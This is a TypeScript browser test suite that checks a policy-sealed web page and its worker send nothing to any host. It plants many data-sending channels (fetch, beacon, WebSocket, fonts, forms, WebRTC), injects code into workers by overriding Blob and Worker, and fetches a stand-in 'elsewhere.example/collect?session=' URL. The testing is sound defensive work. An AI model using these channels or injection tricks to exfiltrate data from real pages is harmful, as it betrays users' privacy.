// Nothing leaves the tab: attempts to send are planted in the page and in its worker, and
// none reaches another host or the page's own. That they would is shown on the same page
// without its policies.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import path from 'node:path';
import { after } from 'node:test';
import { BROWSERS, CLEAN, DIST, drawn, faults, leave, open, press, scratch, serve, setColours, settled, shot, testIn, text, until } from '../harness/index.ts';
import { COLOURS, violations } from './fixtures/axe.ts';
import type { BrowserName } from '../harness/browsers.ts';
import type { AddressInfo } from 'node:net';
import type { Page } from 'puppeteer-core';

/** Ways to send, from a page and from a worker. */
const WAYS = [
  ...['fetch', 'xhr', 'beacon', 'socket', 'source', 'image', 'script', 'style', 'font', 'media', 'prefetch', 'frame', 'form'].map((way) => `page/${way}`),
  ...['fetch', 'xhr', 'socket', 'source', 'script'].map((way) => `worker/${way}`),
];

/** Of these browsers tell the host alone, if that. */
const VAGUE = ['page/frame', 'page/form'];

/** What Firefox refuses without a word. */
const SILENT = { chromium: [], firefox: ['worker/source'] };

/** Guard in milliseconds against what is never heard. */
const LIMIT = 30_000;

/** What another host was asked: where from, and which way. */
const heard = new Set<string>();
let packets = 0;
const other = createServer((request, response) => {
  heard.add((request.url ?? '').slice(1));
  response.setHeader('Access-Control-Allow-Origin', '*');
  response.end('1');
});
other.on('upgrade', (request, socket) => {
  heard.add((request.url ?? '').slice(1));
  socket.destroy();
});
const stun = createSocket('udp4');
stun.on('message', () => { packets += 1; });

/** The built page without its policies, on which sending works. */
const bare = path.join(scratch(), 'bare');

await new Promise((done) => other.listen(0, '127.0.0.1', () => done(undefined)));
await new Promise((done) => stun.bind(0, '127.0.0.1', () => done(undefined)));
cpSync(DIST, bare, { recursive: true });
rmSync(path.join(bare, 'offline.js'));
const built = readFileSync(path.join(bare, 'index.html'), 'utf8');
const without = built.replace(/<meta (http-equiv="Content-Security-Policy"|name="sealed")[^>]*>\n/g, '');
assert.equal(built.split('<meta').length, without.split('<meta').length + 2);
writeFileSync(path.join(bare, 'index.html'), without);

after(() => {
  other.closeAllConnections();
  other.close();
  stun.close();
});

/** Sends in one of the ways, from a page or a worker. */
function send(way: string, to: string) {
  const element = (tag: string, properties: object) => document.head.append(Object.assign(document.createElement(tag), properties));
  const form = () => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'target' }); // an empty one is nobody's
    const made = Object.assign(document.createElement('form'), { action: to, target: 'target', method: 'post' });
    document.body.append(frame, made);
    made.submit();
  };
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(to, { mode: 'no-cors' }).catch(() => {}),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', to);
      request.send();
    },
    beacon: () => navigator.sendBeacon(to, 'data'),
    socket: () => new WebSocket(to.replace('http', 'ws')),
    source: () => {
      const source = new EventSource(to);
      source.onerror = () => source.close();
    },
    image: () => { new Image().src = to; },
    script: () => ('importScripts' in globalThis ? (globalThis as any).importScripts(to) : element('script', { src: to })),
    style: () => element('link', { rel: 'stylesheet', href: to }),
    font: () => new FontFace('planted', `url(${to})`).load().catch(() => {}),
    media: () => { new Audio().src = to; },
    prefetch: () => element('link', { rel: 'prefetch', href: to }),
    frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
    form,
  };
  try {
    ways[way]();
  } catch {
    // a way that throws sends nothing
  }
}

/** Plants in every worker a way to be told to send. */
async function plant(page: Page) {
  await page.evaluateOnNewDocument((sender) => {
    // It stands before the worker's own script, which never sees what is meant for it.
    const seed = `addEventListener('message', (event) => {
      if (!event.data.way) return;
      event.stopImmediatePropagation();
      (${sender})(event.data.way, event.data.to);
    });\n`;
    const all = globalThis as any;
    all.Blob = class extends Blob {
      constructor(parts: BlobPart[], options?: BlobPropertyBag) {
        super(/javascript/.test(options?.type ?? '') ? [seed, ...parts] : parts, options);
      }
    };
    all.Worker = class extends Worker {
      constructor(url: string) {
        super(url);
        all.lastWorker = this;
      }
    };
  }, send.toString());
}

/** A page of a site at rest, and what it sends from then on. */
async function planted(browser: BrowserName, folder?: string) {
  const site = await serve(folder);
  const opened = await open(browser, { installs: true });
  await plant(opened.page);
  await opened.page.goto(site.url);
  await settled(opened.page);
  heard.clear();
  packets = 0;
  const { port } = other.address() as AddressInfo;
  const host = `http://127.0.0.1:${port}`;
  const { page } = opened;
  /** way is one of WAYS. */
  const attempt = (way: string, to: string) => {
    const [from, how] = way.split('/');
    return from === 'page'
      ? page.evaluate(send, how, to)
      : page.evaluate((ask) => (globalThis as any).lastWorker.postMessage(ask), { way: how, to });
  };
  /** sent is awaited before the next way. */
  const all = async (sent: (way: string) => unknown = () => {}) => {
    for (const way of WAYS) {
      await attempt(way, `${host}/${way}`);
      await sent(way);
    }
    for (const from of ['page', 'worker']) await attempt(`${from}/fetch`, `${site.url}${from}-own.js`);
  };
  return { ...opened, site, host, all };
}

/** Opens a connection to a server of WebRTC's, where there is such a thing. */
function call(page: Page) {
  return page.evaluate((port) => {
    if (typeof RTCPeerConnection === 'undefined') return false;
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel('planted');
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    return true;
  }, stun.address().port);
}

/** What the lock's menu lists, the latest first. */
const listed = (page: Page): Promise<string[]> => page.$$eval('.requests li', (rows) => rows.map((row) => [...row.children].map(({ textContent }) => textContent).join(' ')));

/** what is said if it never does. */
async function eventually(holds: () => unknown, what: () => unknown) {
  for (const end = Date.now() + LIMIT; !(await holds());) {
    assert.ok(Date.now() < end, JSON.stringify(what()));
    await new Promise((done) => setTimeout(done, 50));
  }
}

for (const browser of BROWSERS) {
  testIn(browser, 'without its policies the page and its worker can send', async () => {
    const opened = await planted(browser, bare);
    const { page, site, all } = opened;
    // One after the other: Firefox drops what it was to prefetch when a frame begins to load.
    await all((way) => eventually(() => heard.has(way), () => ({ unheard: way })));
    for (const own of ['page-own.js', 'worker-own.js']) await eventually(() => site.requests.some((r) => r.path.endsWith(own)), () => own);
    // And what was sent is counted and shown, the worker's, too.
    for (const asked of [/^Asked [\d:]+, page, fetch .*page-own\.js$/, /^Asked [\d:]+, worker, fetch .*worker-own\.js$/, /worker, xmlhttprequest .*worker\/xhr$/, /page, img .*page\/image$/]) {
      await eventually(async () => (await listed(page)).some((row) => asked.test(row)), () => asked.source);
    }
    assert.match(await text(page, '#header .lock summary'), /[1-9]\d* requests$/);
    assert.ok(await call(page));
    // Firefox asks no server of WebRTC's from a machine without a network.
    if (browser === 'chromium') await eventually(() => packets > 0, () => 'no packet');
    await leave(opened);
  });

  testIn(browser, 'nothing leaves the locked page, and every attempt is shown', async () => {
    const opened = await planted(browser);
    const { page, record, site, host, all } = opened;
    assert.deepEqual(faults(record), CLEAN);
    assert.match(await text(page, '#header .lock'), /0 requests$/);
    await all();
    assert.equal(await call(page), false);
    const ways = WAYS.filter((way) => !SILENT[browser].includes(way as never));
    const told = ways.filter((way) => !VAGUE.includes(way)).map((way) => `${host}/${way}`);
    told.push(`${site.url}page-own.js`, `${site.url}worker-own.js`);
    const lacking = (rows: string[]) => told.filter((address) => !rows.some((row) => row.replace(/ws:/, 'http:').endsWith(` ${address}`)));
    let rows = await listed(page);
    await eventually(async () => {
      rows = await listed(page);
      return lacking(rows).length === 0 && rows.length >= ways.length + 2;
    }, () => ({ lacking: lacking(rows), rows }));
    await drawn(page);
    assert.deepEqual((await listed(page)).filter((row) => !/^Blocked [\d:]+, (page|worker), [a-z-]+ (http|ws)/.test(row)), []);
    rows = await listed(page);
    const alone = rows.filter((row) => !/, page, frame /.test(row)); // the form breaks the frames' rule as well as its own, and Chromium tells both
    assert.equal(alone.length, ways.length + 1, `each attempt is told once: ${rows.join('\n')}`);
    assert.equal(await text(page, '#header .lock summary .number'), `0 requests, ${rows.length} blocked`);
    // The page works on.
    await press(page, '[data-do=run]');
    await until(page, () => document.documentElement.dataset.run === 'done');
    assert.deepEqual([...heard], []);
    assert.equal(packets, 0);
    assert.deepEqual(site.requests.filter((r) => /own/.test(r.path)), []);
    await leave(opened);
  });
}

testIn('chromium', 'light and dark: pictures of the list and of a new version', async () => {
  const opened = await open('chromium');
  const { page } = opened;
  const site = await serve();
  await page.goto(site.url);
  await settled(page);
  for (const attempts of [0, 3]) {
    for (let i = 0; i < attempts; i++) await page.evaluate((to) => void fetch(to).catch(() => {}), `https://elsewhere.example/collect?session=${i}`);
    if (attempts > 0) await until(page, (n) => document.querySelectorAll('.requests li').length === n, attempts);
    await press(page, '#header .lock summary');
    for (const width of [1280, 390]) {
      await page.setViewport({ width, height: 800 });
      for (const dark of [false, true]) {
        await setColours(page, dark);
        await drawn(page);
        await shot(page, `requests-${attempts}-${width}-${dark ? 'dark' : 'light'}-chromium`);
        assert.deepEqual(await violations(page, dark ? COLOURS : undefined), []);
      }
      await setColours(page, false);
    }
    await page.setViewport({ width: 1280, height: 800 });
    await page.keyboard.press('Escape');
  }
  await leave(opened);
});
